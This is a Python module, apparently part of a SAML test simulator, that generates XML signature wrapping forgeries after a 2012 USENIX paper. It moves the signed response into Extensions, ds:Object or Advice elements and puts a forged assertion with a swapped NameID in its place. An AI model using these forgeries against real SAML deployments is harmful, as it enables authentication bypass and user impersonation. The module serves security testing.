"""Signature wrapping: what was signed is moved aside, and something else stands where it was looked for.

After Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012).
"""

from __future__ import annotations

from lxml import etree

from armkrok.simulators.saml.building import DS, SAML, SAMLP, found


def _forged(root: etree._Element, *, new_id: str) -> etree._Element:
    """A copy that says something else and has no signature of its own."""
    copy = etree.fromstring(etree.tostring(root))
    for signature in copy.findall(f"{DS}Signature"):
        copy.remove(signature)
    for element in copy.iter():
        if "Id" in element.attrib:
            element.set("Id", f"{element.get('Id')}-forged")
    copy.set("ID", new_id)
    for name in copy.iter(f"{SAML}NameID"):
        name.text = "id-somebody-else"
    return copy


def wrapped_in_extensions(data: bytes) -> bytes:
    """The signed response within an unsigned one, which bears a copy of its signature."""
    root = etree.fromstring(data)
    forged = _forged(root, new_id="_forged")
    signature = found(root, f"{DS}Signature")
    forged.insert(1, etree.fromstring(etree.tostring(signature)))
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(root)
    forged.insert(2, extensions)
    for inner in extensions.iter(f"{SAML}Assertion", f"{SAML}EncryptedAssertion"):
        inner.tag = f"{SAML}Kept"
    return etree.tostring(forged)


def wrapped_in_object(data: bytes) -> bytes:
    """What was signed is moved into the signature, and something else put in its place."""
    root = etree.fromstring(data)
    forged = _forged(root, new_id="_forged")
    signature = found(root, f"{DS}Signature")
    root.remove(signature)
    etree.SubElement(signature, f"{DS}Object").append(root)
    forged.insert(1, signature)
    return etree.tostring(forged)


def wrapped_same_id(data: bytes) -> bytes:
    """As above, and the two have the same ID: which one does the signature mean?"""
    inner = wrapped_in_object(data)
    root = etree.fromstring(inner)
    root.set("ID", found(root, f"{DS}Signature/{DS}Object/*").get("ID", ""))
    return etree.tostring(root)


def in_advice(data: bytes) -> bytes:
    """A forged assertion with the signed one as its advice."""
    root = etree.fromstring(data)
    forged = _forged(root, new_id="_forged")
    signature = root.find(f"{DS}Signature")
    if signature is not None:
        forged.insert(1, etree.fromstring(etree.tostring(signature)))
    etree.SubElement(forged, f"{SAML}Advice").append(root)
    return etree.tostring(forged)
